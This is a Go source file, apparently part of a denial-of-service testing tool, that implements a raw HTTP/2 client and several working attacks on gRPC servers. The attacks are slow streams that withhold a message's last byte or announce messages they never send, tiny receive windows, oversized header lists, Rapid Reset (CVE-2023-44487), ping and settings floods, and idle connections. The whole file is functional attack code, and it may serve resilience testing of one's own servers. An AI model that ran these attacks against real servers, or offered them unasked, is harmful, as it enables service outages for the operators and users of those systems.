package attack

import (
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"net"
	"strings"
	"sync"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Call is a gRPC call: the path of its method, and its message.
type Call struct {
	Path    string
	Message []byte
}

// h2 is one HTTP/2 connection of an attacker. It respects the windows of the server, which would close it otherwise.
type h2 struct {
	framer  *http2.Framer
	encoder *hpack.Encoder
	fields  bytes.Buffer // of encoder
	stream  uint32       // the last that was opened

	writing sync.Mutex // held while a frame is written

	mu      sync.Mutex // guards the fields below
	changed *sync.Cond
	window  int64            // of the connection, for what is sent
	initial int64            // the first window of a stream
	windows map[uint32]int64 // :: stream → its window
	most    uint32           // streams that the server allows
	err     error            // the connection has ended
	dirty   bool             // something has changed since the last awaitChange
}

// open begins a connection whose streams have a window of the given size for what the server sends.
func open(c net.Conn, window uint32) (*h2, error) {
	h := &h2{framer: http2.NewFramer(c, c), window: 65535, initial: 65535, windows: map[uint32]int64{}, most: 100}
	h.changed = sync.NewCond(&h.mu)
	h.encoder = hpack.NewEncoder(&h.fields)
	h.framer.SetMaxReadFrameSize(1 << 24)
	if _, err := c.Write([]byte(http2.ClientPreface)); err != nil {
		return nil, err
	}
	settings := make(chan struct{})
	go h.read(sync.OnceFunc(func() { close(settings) }))
	err := h.write(func() error {
		return h.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: window})
	})
	<-settings
	return h, err
}

func (h *h2) write(frame func() error) error {
	h.writing.Lock()
	defer h.writing.Unlock()
	return frame()
}

// read reads frames until the connection ends.
func (h *h2) read(settings func()) {
	defer settings()
	for {
		f, err := h.framer.ReadFrame()
		if err != nil {
			h.update(func() { h.err = err })
			return
		}
		switch f := f.(type) {
		case *http2.SettingsFrame:
			if !f.IsAck() {
				h.settings(f)
				_ = h.write(h.framer.WriteSettingsAck)
				settings()
			}
		case *http2.WindowUpdateFrame:
			h.update(func() { h.grow(f.StreamID, int64(f.Increment)) })
		case *http2.RSTStreamFrame:
			h.update(func() { delete(h.windows, f.StreamID) })
		case *http2.PingFrame:
			if !f.IsAck() {
				_ = h.write(func() error { return h.framer.WritePing(true, f.Data) })
			}
		}
	}
}

func (h *h2) settings(f *http2.SettingsFrame) {
	h.update(func() {
		if v, ok := f.Value(http2.SettingInitialWindowSize); ok {
			h.initial = int64(v)
		}
		if v, ok := f.Value(http2.SettingMaxConcurrentStreams); ok {
			h.most = v
		}
	})
}

func (h *h2) update(change func()) {
	h.mu.Lock()
	defer h.mu.Unlock()
	change()
	h.dirty = true
	h.changed.Broadcast()
}

func (h *h2) grow(stream uint32, n int64) {
	if stream == 0 {
		h.window += n
	} else if _, ok := h.windows[stream]; ok {
		h.windows[stream] += n
	}
}

// begin opens a stream.
func (h *h2) begin(path string, extra ...hpack.HeaderField) (uint32, error) {
	h.fields.Reset()
	for _, f := range append([]hpack.HeaderField{
		{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "http"}, {Name: ":path", Value: path},
		{Name: ":authority", Value: "localhost"}, {Name: "content-type", Value: "application/grpc"}, {Name: "te", Value: "trailers"},
	}, extra...) {
		_ = h.encoder.WriteField(f) // a bytes.Buffer takes everything
	}
	h.stream = max(h.stream+2, 1)
	if h.stream%2 == 0 {
		h.stream--
	}
	stream, block := h.stream, h.fields.Bytes()
	h.update(func() { h.windows[stream] = h.initial })
	return stream, h.write(func() error { return h.writeHeaders(stream, block) })
}

func (h *h2) writeHeaders(stream uint32, block []byte) error {
	const most = 16 << 10
	first := block[:min(len(block), most)]
	block = block[len(first):]
	err := h.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: first, EndHeaders: len(block) == 0})
	for err == nil && len(block) > 0 {
		part := block[:min(len(block), most)]
		block = block[len(part):]
		err = h.framer.WriteContinuation(stream, len(block) == 0, part)
	}
	return err
}

// send sends data as the windows allow, until ctx ends.
func (h *h2) send(ctx context.Context, stream uint32, data []byte, end bool) error {
	defer context.AfterFunc(ctx, func() { h.update(func() {}) })()
	for len(data) > 0 {
		n, err := h.take(ctx, stream, int64(min(len(data), 16<<10)))
		if err != nil {
			return err
		}
		part := data[:n]
		data = data[n:]
		if err := h.write(func() error { return h.framer.WriteData(stream, end && len(data) == 0, part) }); err != nil {
			return err
		}
	}
	return nil
}

// errReset means that the server has ended the stream.
var errReset = errors.New("the stream was reset")

func (h *h2) take(ctx context.Context, stream uint32, want int64) (int64, error) {
	h.mu.Lock()
	defer h.mu.Unlock()
	for {
		window, ok := h.windows[stream]
		n := min(want, window, h.window)
		switch {
		case h.err != nil:
			return 0, h.err
		case ctx.Err() != nil:
			return 0, ctx.Err()
		case !ok:
			return 0, errReset
		case n > 0:
			h.windows[stream] -= n
			h.window -= n
			return n, nil
		}
		h.changed.Wait()
	}
}

// sendAll sends the rest of each stream, one frame after the other from each whose window allows it.
func (h *h2) sendAll(ctx context.Context, rest map[uint32][]byte) error {
	defer context.AfterFunc(ctx, func() { h.update(func() {}) })()
	for len(rest) > 0 {
		sent := false
		for stream, data := range rest {
			n, open, err := h.tryTake(stream, int64(min(len(data), 16<<10)))
			if err != nil || ctx.Err() != nil {
				return errors.Join(err, ctx.Err())
			}
			if rest[stream] = data[n:]; !open || int(n) == len(data) {
				delete(rest, stream)
			}
			if n == 0 {
				continue
			}
			if err := h.write(func() error { return h.framer.WriteData(stream, false, data[:n]) }); err != nil {
				return err
			}
			sent = true
		}
		if !sent {
			h.awaitChange(ctx)
		}
	}
	return nil
}

// tryTake takes what the windows have, and reports whether the stream is open.
func (h *h2) tryTake(stream uint32, want int64) (n int64, open bool, err error) {
	h.mu.Lock()
	defer h.mu.Unlock()
	window, open := h.windows[stream]
	if n = max(min(want, window, h.window), 0); n > 0 {
		h.windows[stream] -= n
		h.window -= n
	}
	return n, open, h.err
}

// awaitChange waits until one of the windows may have grown.
func (h *h2) awaitChange(ctx context.Context) {
	h.mu.Lock()
	defer h.mu.Unlock()
	if h.err == nil && ctx.Err() == nil && !h.dirty {
		h.changed.Wait()
	}
	h.dirty = false
}

func (h *h2) limit() int {
	h.mu.Lock()
	defer h.mu.Unlock()
	return int(h.most)
}

// awaitEnd waits for the end of the connection.
func (h *h2) awaitEnd(ctx context.Context) {
	defer context.AfterFunc(ctx, func() { h.update(func() {}) })()
	h.mu.Lock()
	defer h.mu.Unlock()
	for h.err == nil && ctx.Err() == nil {
		h.changed.Wait()
	}
}

// framed returns a gRPC message with its length.
func framed(message []byte) []byte {
	return append(binary.BigEndian.AppendUint32([]byte{0}, uint32(len(message))), message...)
}

// onH2 opens n connections, runs script on each, and holds it. The server can send window bytes on each stream.
func onH2(n int, window uint32, script func(ctx context.Context, h *h2) error) Attack {
	return Crowd(n, func(ctx context.Context, c net.Conn, _ int) error {
		h, err := open(c, window)
		if err == nil {
			err = script(ctx, h)
		}
		if err == nil || errors.Is(err, errReset) {
			h.awaitEnd(ctx)
		}
		return errors.Join(err, net.ErrClosed) // the frames have been read already
	})
}

// onStreams runs script on several streams at once. It returns an error of the connection.
func onStreams(ctx context.Context, h *h2, streams int, path string, script func(stream uint32) error) error {
	var all sync.WaitGroup
	var err error
	for range min(streams, h.limit()) {
		stream, failed := h.begin(path)
		if failed != nil {
			err = failed
			break
		}
		all.Go(func() { _ = script(stream) }) // the next frame shows whether the connection has ended
		if ctx.Err() != nil {
			break
		}
	}
	all.Wait()
	return err
}

// LastByteMissing opens n connections with many streams each. Each sends a message of the given size except its last byte.
func LastByteMissing(n, streams, size int, path string) Attack {
	message := framed(make([]byte, size))
	return onH2(n, 65535, func(ctx context.Context, h *h2) error {
		rest := map[uint32][]byte{} // :: stream → what it has not sent
		for range min(streams, h.limit()) {
			stream, err := h.begin(path)
			if err != nil {
				return err
			}
			rest[stream] = message[:len(message)-1]
		}
		return h.sendAll(ctx, rest)
	})
}

// AnnounceMessages opens n connections with many streams each, which announce a message of the given size and send none of
// it.
func AnnounceMessages(n, streams int, size uint32, path string) Attack {
	length := binary.BigEndian.AppendUint32([]byte{0}, size)
	return onH2(n, 65535, func(ctx context.Context, h *h2) error {
		return onStreams(ctx, h, streams, path, func(stream uint32) error { return h.send(ctx, stream, length, false) })
	})
}

// Calls opens n connections with many calls each. The server can send only window bytes of each response.
func Calls(n, streams int, window uint32, call Call) Attack {
	message := framed(call.Message)
	return onH2(n, window, func(ctx context.Context, h *h2) error {
		return onStreams(ctx, h, streams, call.Path, func(stream uint32) error { return h.send(ctx, stream, message, true) })
	})
}

// HugeHeaderLists opens n connections and sends header lists of the given size.
func HugeHeaderLists(n, size int, path string) Attack {
	big := hpack.HeaderField{Name: "x-big", Value: strings.Repeat("x", size), Sensitive: true}
	return onH2(n, 65535, func(ctx context.Context, h *h2) error {
		for ctx.Err() == nil {
			if _, err := h.begin(path, big); err != nil || !wait(ctx, pause) {
				return err
			}
		}
		return nil
	})
}

// RapidReset opens n connections, and opens and resets streams on them (CVE-2023-44487).
func RapidReset(n int, call Call) Attack {
	message := framed(call.Message)
	return onH2(n, 65535, func(ctx context.Context, h *h2) error {
		for ctx.Err() == nil {
			stream, err := h.begin(call.Path)
			if err == nil {
				err = h.send(ctx, stream, message, true)
			}
			if errors.Is(err, errReset) {
				continue
			}
			if err == nil {
				err = h.write(func() error { return h.framer.WriteRSTStream(stream, http2.ErrCodeCancel) })
			}
			if err != nil {
				return err
			}
			h.update(func() { delete(h.windows, stream) })
		}
		return nil
	})
}

// FloodFrames opens n connections and sends pings and settings, without reading the responses.
func FloodFrames(n int) Attack {
	var frames bytes.Buffer
	f := http2.NewFramer(&frames, nil)
	// Neither can fail: the buffer takes everything.
	_, _ = f.WritePing(false, [8]byte{}), f.WriteSettings(http2.Setting{ID: http2.SettingMaxFrameSize, Val: 1 << 14})
	var first bytes.Buffer
	_ = http2.NewFramer(&first, nil).WriteSettings()
	return Flood(n, http2.ClientPreface+first.String(), strings.Repeat(frames.String(), 100))
}

// IdleH2 opens n connections that send the preface and settings and nothing else.
func IdleH2(n int) Attack {
	return onH2(n, 65535, func(context.Context, *h2) error { return nil })
}
